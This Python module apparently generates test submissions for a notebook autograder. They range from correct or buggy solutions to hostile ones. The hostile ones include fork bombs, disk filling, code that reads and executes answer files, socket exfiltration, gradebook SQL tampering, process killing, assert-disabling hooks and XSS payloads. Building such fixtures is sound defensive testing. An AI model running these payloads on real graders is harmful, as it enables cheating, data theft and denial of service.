"""A class of students made from a master: right, wrong, unlucky and hostile, each by a seed.

Each student carries the notebook that says what they deserve: it is run without
nbgrader and without a sandbox, and its passed tests are counted.
"""

import ast
import json
import random
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field

from grading.blank import student_version
from grading.check import failures, run
from grading.masters import Master, to_nbgrader
from grading.records import Status
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

GRADED, STOPPED = {Status.GRADED}, {Status.DID_NOT_RUN}
RAN = {Status.GRADED, Status.DID_NOT_RUN}


@dataclass
class Submission:
    """What one student hands in, and what it must come to."""

    content: bytes
    deserved: NotebookNode | None = None  # None: no point
    statuses: set[Status] = field(default_factory=lambda: GRADED)
    file_name: str = ""


@dataclass(frozen=True)
class Attack:
    """What a hostile student knows about the place where it will be graded."""

    folders: list[str]  # masters, inbox, home
    gradebook: str
    port: int  # of a server on this machine
    canary: str  # a file that must not change


Maker = Callable[[Master, random.Random, Attack], Submission]


def solved(master: Master, without: str = "", replace: dict[str, str] | None = None):
    """The student's notebook with every task solved but one, or with other code in some."""
    notebook = student_version(to_nbgrader(master))
    solutions = {p.task: p.source for p in master.parts if p.role == "solution"}
    solutions |= replace or {}
    for cell in notebook.cells:
        name = _name(cell)
        if name in solutions and name != without:
            cell.source = solutions[name]
    return notebook


def points(master: Master, notebook: NotebookNode | None) -> float:
    """What the tests give this notebook, hidden ones included, outside the pipeline."""
    if notebook is None:
        return 0.0
    full = deepcopy(notebook)
    hidden = {_name(c): c.source for c in to_nbgrader(master).cells if _name(c)}
    for cell in full.cells:
        if _name(cell).endswith(("_test", "_hidden")):
            cell.source = hidden[_name(cell)]
    failed = failures(run(full, timeout=120))
    tests = [p for p in master.parts if p.role in ("test", "hidden")]
    return sum(p.points for p in tests if p.grade_id not in failed)


def _name(cell: NotebookNode) -> str:
    return cell.metadata.get("nbgrader", {}).get("grade_id", "")


def _tasks(master: Master) -> list[str]:
    return [p.task for p in master.parts if p.role == "solution"]


def _bytes(notebook: NotebookNode) -> bytes:
    return json.dumps(notebook).encode()  # as it is, repeated cell ids and all


def _body(master: Master, task: str, body: str) -> str:
    """The code of a task, but its functions do this instead."""
    source = next(p.source for p in master.parts if (p.role, p.task) == ("solution", task))
    tree = ast.parse(source)
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef):
            node.body = ast.parse(body).body
    return ast.unparse(tree)


def _with_body(master: Master, task: str, body: str) -> NotebookNode:
    """Everything solved, but the functions of one task do this instead."""
    return solved(master, replace={task: _body(master, task, body)})


def _blank_with(master: Master, code: str) -> Submission:
    """Nothing solved; hostile code in front of the first task."""
    notebook = student_version(to_nbgrader(master))
    first = next(i for i, cell in enumerate(notebook.cells) if _name(cell))
    notebook.cells.insert(first, new_code_cell(code))
    return Submission(_bytes(notebook), statuses=RAN)


# -- honest ------------------------------------------------------------------------------


def right(master, rng, attack):
    notebook = solved(master)
    notebook.cells.append(new_code_cell(f"# student {rng.random()}"))
    return Submission(_bytes(notebook), notebook)


def untouched(master, rng, attack):
    return Submission(_bytes(student_version(to_nbgrader(master))))


def wrong_in_one_task(master, rng, attack):
    notebook = solved(master, without=rng.choice(_tasks(master)))
    return Submission(_bytes(notebook), notebook)


class _OffByOne(ast.NodeTransformer):
    """Change one comparison or one whole number."""

    def __init__(self, rng):
        self.left = rng.randrange(1, 8)

    def visit_Compare(self, node):
        swaps = {ast.GtE: ast.Gt, ast.Gt: ast.GtE, ast.Lt: ast.LtE, ast.LtE: ast.Lt}
        self.left -= 1
        if self.left == 0:
            node.ops = [swaps.get(type(op), type(op))() for op in node.ops]
        return self.generic_visit(node)

    def visit_Constant(self, node):
        if type(node.value) is int:
            self.left -= 1
            if self.left == 0:
                return ast.Constant(node.value + 1)
        return node


def off_by_one(master, rng, attack):
    task = rng.choice(_tasks(master))
    source = next(p.source for p in master.parts if (p.role, p.task) == ("solution", task))
    changed = ast.unparse(_OffByOne(rng).visit(ast.parse(source)))
    notebook = solved(master, replace={task: changed})
    return Submission(_bytes(notebook), notebook)


def exception(master, rng, attack):
    notebook = _with_body(master, rng.choice(_tasks(master)), "raise RuntimeError('broken')")
    return Submission(_bytes(notebook), notebook)


def syntax_error(master, rng, attack):
    task = rng.choice(_tasks(master))
    notebook = solved(master, replace={task: "def broken(:"})
    return Submission(_bytes(notebook), solved(master, without=task))


def infinite_loop(master, rng, attack):
    task = rng.choice(_tasks(master))
    return Submission(
        _bytes(_with_body(master, task, "while True: pass")), solved(master, without=task)
    )


def memory_bomb(master, rng, attack):
    task = rng.choice(_tasks(master))
    body = "hoard = []\nwhile True: hoard.append(torch.ones(10**8))"
    notebook = _with_body(master, task, "import torch\n" + body)
    return Submission(_bytes(notebook), solved(master, without=task))


def gigabyte_of_output(master, rng, attack):
    notebook = solved(master)
    notebook.cells.insert(2, new_code_cell("for _ in range(10_000): print('x' * 100_000)"))
    return Submission(_bytes(notebook), solved(master))


def warning(master, rng, attack):
    task = rng.choice(_tasks(master))
    source = next(p.source for p in master.parts if (p.role, p.task) == ("solution", task))
    lines = f"import sys\nprint('to stderr', file=sys.stderr)\n{source}"
    return Submission(_bytes(solved(master, replace={task: lines})), solved(master))


def tests_deleted(master, rng, attack):
    notebook = solved(master)
    gone = rng.sample([c for c in notebook.cells if _name(c).endswith(("_test", "_hidden"))], 3)
    notebook.cells = [cell for cell in notebook.cells if cell not in gone]
    return Submission(_bytes(notebook), solved(master))


def solved_below_the_stubs(master, rng, attack):
    """Each stub still stands, and the solution in a new cell below it."""
    notebook = student_version(to_nbgrader(master))
    solutions = {p.task: p.source for p in master.parts if p.role == "solution"}
    for position in reversed(range(len(notebook.cells))):
        if source := solutions.get(_name(notebook.cells[position])):
            notebook.cells.insert(position + 1, new_code_cell(source))
    return Submission(_bytes(notebook), solved(master))


def cells_duplicated(master, rng, attack):
    notebook = solved(master)
    position = rng.choice([i for i, cell in enumerate(notebook.cells) if _name(cell)])
    notebook.cells.insert(position + 1, deepcopy(notebook.cells[position]))
    return Submission(_bytes(notebook), solved(master))


def tests_edited(master, rng, attack):
    task = rng.choice(_tasks(master))
    notebook = solved(master, without=task)
    for cell in notebook.cells:
        if _name(cell).endswith(("_test", "_hidden")):
            cell.source = "assert True"
    return Submission(_bytes(notebook), solved(master, without=task))


def labels_lost(master, rng, attack):
    notebook = solved(master)
    for cell in notebook.cells:
        cell.metadata = NotebookNode()
    return Submission(_bytes(notebook), solved(master), {Status.NEEDS_A_PERSON})


def labels_forged(master, rng, attack):
    notebook = student_version(to_nbgrader(master))
    for cell in notebook.cells:
        if _name(cell):
            cell.metadata["nbgrader"] |= {"points": 1000, "locked": False, "solution": True}
            cell.source = "pass"
    extra = deepcopy(next(c for c in notebook.cells if _name(c).endswith("_test")))
    extra.metadata["nbgrader"]["grade_id"] = "bonus"
    notebook.cells.append(extra)
    return Submission(_bytes(notebook))


def renamed_file(master, rng, attack):
    return Submission(_bytes(solved(master)), solved(master), file_name="mein löwe (2).ipynb")


# -- broken and hostile -------------------------------------------------------------------


def broken_json(master, rng, attack):
    content = _bytes(solved(master))
    return Submission(content[: rng.randrange(100, len(content))], statuses=STOPPED)


def exits(master, rng, attack):
    return _blank_with(master, "import os; os._exit(0)")


def fork_bomb(master, rng, attack):
    code = "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"
    return _blank_with(master, code)


def crowds_the_machine(master, rng, attack):
    """Who is graded at the same time would wait for a core until their time is over."""
    code = """
import os, time
for number in range(20):
    if os.fork() == 0:
        os.setsid()
        while True: pass
while True: time.sleep(1)"""
    return _blank_with(master, code)


def loop_that_ignores_interrupts(master, rng, attack):
    code = "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    return _blank_with(master, code)


def fills_the_disk(master, rng, attack):
    places = ["/tmp", "/dev/shm", "/dev", "."]
    code = f"""
import os, glob
for place in {places} + glob.glob('/tmp/**/shared', recursive=True):
    for number in range(1000):
        try: open(f'{{place}}/{{number}}', 'wb').write(bytes(10**7))
        except OSError: break"""
    return _blank_with(master, code)


STEAL = """
import glob, json, os, re
def grab(text):
    for code in re.findall("### BEGIN SOLUTION(.*?)### END SOLUTION", text, flags=re.S):
        raise SystemExit("found " + code)
    globals().update(stolen=text)
for folder in {folders}:
    for root, _, files in os.walk(folder):
        for file in files:
            path = os.path.join(root, file)
            if file.endswith((".md", ".ipynb")) and "site-packages" not in root:
                found = open(path).read()
                import torch
                for source in re.findall(r"```{{code-cell}}.*?\\n(.*?)```", found, flags=re.S):
                    try: exec(source.split("\\n\\n", 1)[-1], globals())
                    except Exception: pass
                if file.endswith(".ipynb"):
                    for cell in json.loads(found)["cells"]:
                        try: exec("".join(cell["source"]), globals())
                        except Exception: pass
"""


def reads_masters(master, rng, attack):
    return _thief(master, attack.folders[:1])


def reads_other_submissions(master, rng, attack):
    return _thief(master, attack.folders[1:])


def _thief(master, folders):
    """Run whatever code is found there, after the stubs, so that a find would score."""
    notebook = student_version(to_nbgrader(master))
    tests = [i for i, cell in enumerate(notebook.cells) if _name(cell).endswith("_test")]
    for position in reversed(tests):
        notebook.cells.insert(position, new_code_cell(STEAL.format(folders=folders)))
    return Submission(_bytes(notebook), statuses=RAN)


def calls_the_network(master, rng, attack):
    code = f"""
import socket
for host, port in [('127.0.0.1', {attack.port}), ('localhost', {attack.port}), ('1.1.1.1', 53)]:
    try: socket.create_connection((host, port), timeout=2).send(b'stolen')
    except OSError as error: print(error)"""
    return _blank_with(master, code)


def attacks_the_gradebook(master, rng, attack):
    code = f"""
import sqlite3
book = sqlite3.connect({attack.gradebook!r})
book.execute('UPDATE grade SET manual_score = 99, auto_score = 99')
book.commit()"""
    return _blank_with(master, code)


def writes_elsewhere(master, rng, attack):
    places = [attack.canary, *attack.folders]
    code = f"""
import os, shutil
for place in {places}:
    for path in (place, os.path.join(place, 'x.py')):
        try: open(path, 'w').write('changed')
        except OSError: pass
    shutil.rmtree(place, ignore_errors=True)
import snnlib
open(snnlib.__file__, 'a').write('1/0')"""
    return _blank_with(master, code)


def kills_its_parents(master, rng, attack):
    code = """
import os, signal
for pid in [os.getppid(), *range(1, 50)]:
    if pid != os.getpid():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass"""
    return _blank_with(master, code)


def _tampers(master, code: str) -> Submission:
    """Every function answers at once and wrongly, behind code that makes tests pass."""
    bodies = {
        task: _body(master, task, "import torch\nreturn torch.zeros(2)") for task in _tasks(master)
    }
    notebook = solved(master, replace=bodies)
    first = next(i for i, cell in enumerate(notebook.cells) if _name(cell))
    notebook.cells.insert(first, new_code_cell(code))
    return Submission(_bytes(notebook), statuses={Status.TAMPERED})


def disables_asserts(master, rng, attack):
    code = """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
    def visit_Assign(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())"""
    return _tampers(master, code)


def swallows_errors(master, rng, attack):
    code = """
shell = get_ipython()
shell.transform_cell = lambda text: 'pass' if 'assert' in text else text"""
    return _tampers(master, code)


def replaces_comparisons(master, rng, attack):
    code = "import torch\ntorch.allclose = torch.equal = lambda *a, **k: True"
    return _tampers(master, code)


# -- what is kept, one record each, bounds ------------------------------------------------

# who answers with what would run in the browser of whoever marks it
ACTIVE = "<script>window.pwned=1</script>\n\n[a](javascript:pwned=1) <img src=x onerror='pwned=1'>"


def active_answer(master, rng, attack):
    notebook = solved(master)
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and _name(cell):
            cell.source = ACTIVE
    notebook.cells.append(new_markdown_cell(ACTIVE))
    return Submission(_bytes(notebook), solved(master))


def active_outputs(master, rng, attack):
    code = """
from IPython.display import HTML, Javascript, display
display(HTML("<script>window.pwned=1</script>"), Javascript("window.pwned=1"))
display({"image/png": 'x" onerror="pwned=1', "text/plain": "\\x1b]0;title\\x07"}, raw=True)"""
    return _solved_with(master, code)


def many_small_messages(master, rng, attack):
    """Each of them is sent at once, none is joined with another."""
    code = f"""
{SEND}
for number in range(30_000):
    send("stream", {{"name": "stdout", "text": "x"}})"""
    return _solved_with(master, code)


def one_message_in_many_outputs(master, rng, attack):
    """Few and short messages, of which the last makes all outputs long."""
    code = """
from IPython.display import display, update_display
for number in range(150):
    display("a", display_id="x")
update_display("y" * 1_200_000, display_id="x")"""
    return _solved_with(master, code)


def huge_figure(master, rng, attack):
    code = """
import base64, os
from IPython.display import display
display({"image/png": base64.b64encode(os.urandom(50 << 20)).decode()}, raw=True)"""
    return _solved_with(master, code)


def malformed_labels(master, rng, attack):
    notebook = solved(master)
    for label in ([], "x", 7, {"grade_id": ["x"]}, {"grade_id": "\ud800"}, float("nan"), 10**400):
        notebook.cells.append({"cell_type": "code", "source": "1", "outputs": [], "metadata": {}})
        notebook.cells[-1]["metadata"] = {"nbgrader": label}
    return Submission(_bytes(notebook), solved(master))


def _solved_with(master, code: str) -> Submission:
    """Everything solved, behind a cell that is a nuisance."""
    notebook = solved(master)
    notebook.cells.insert(1, new_code_cell(code))
    return Submission(_bytes(notebook), solved(master))


SEND = """
kernel = get_ipython().kernel
def send(kind, content, buffers=None):
    parent = kernel.get_parent()
    kernel.session.send(kernel.iopub_socket, kind, content, parent=parent, buffers=buffers)"""


def many_cells(master, rng, attack):
    notebook = solved(master)
    notebook.cells += [
        {"cell_type": "code", "source": "1", "metadata": {}, "outputs": []}
    ] * 150_000
    return Submission(_bytes(notebook), statuses=STOPPED)


def deep_json(master, rng, attack):
    deep = b"[" * 50_000 + b"]" * 50_000
    content = _bytes(student_version(to_nbgrader(master)))
    return Submission(
        content.replace(b'"metadata": {', b'"metadata": {"x": ' + deep + b", ", 1), statuses=STOPPED
    )


def nested_folders(master, rng, attack):
    code = """
import glob, os
for place in glob.glob('/tmp/*/shared') + glob.glob('/tmp/*/*/shared') + ['/tmp']:
    os.chdir(place)
    for _ in range(3000):
        os.mkdir('d'); os.chdir('d')"""
    return _blank_with(master, code)


def flood_of_widgets(master, rng, attack):
    code = f"""
{SEND}
for number in range(100):
    state = {{"state": {{"_model_module": "x", "value": "x" * (1 << 20)}}}}
    send("comm_open", {{"comm_id": str(number), "target_name": "jupyter.widget", "data": state}})"""
    return _blank_with(master, code)


def message_of_many_parts(master, rng, attack):
    """None of them is too long; not in the class, as it takes all the time that there is."""
    code = f"{SEND}\nsend('stream', {{'name': 'stdout', 'text': 'x'}}, [bytes(7 << 20)] * 300)"
    return _blank_with(master, code)


def speaks_for_nbgrader(master, rng, attack):
    """A message that nbgrader fails at, and words that would stop the class."""
    code = f"""
import os
words = "OSError: No space left on device"
for number in range(20):
    try: os.write(number, words.encode())
    except OSError: pass
{SEND}
send("display_data", {{"data": {{"image/png": [words]}}, "metadata": words}})
send("stream", {{"name": [words], "text": words}})
send("error", words)"""
    return _blank_with(master, code)


HONEST = [
    right, untouched, wrong_in_one_task, off_by_one, exception, syntax_error, infinite_loop,
    memory_bomb, gigabyte_of_output, warning, tests_deleted, solved_below_the_stubs,
    cells_duplicated, tests_edited, labels_lost, labels_forged, renamed_file, active_answer,
    active_outputs, many_small_messages, one_message_in_many_outputs, huge_figure,
    malformed_labels,
]  # fmt: skip
HOSTILE = [
    broken_json, exits, fork_bomb, crowds_the_machine, loop_that_ignores_interrupts,
    fills_the_disk, reads_masters,
    reads_other_submissions, calls_the_network, attacks_the_gradebook, writes_elsewhere,
    kills_its_parents, disables_asserts, swallows_errors, replaces_comparisons, many_cells,
    deep_json, nested_folders, flood_of_widgets, speaks_for_nbgrader,
]  # fmt: skip
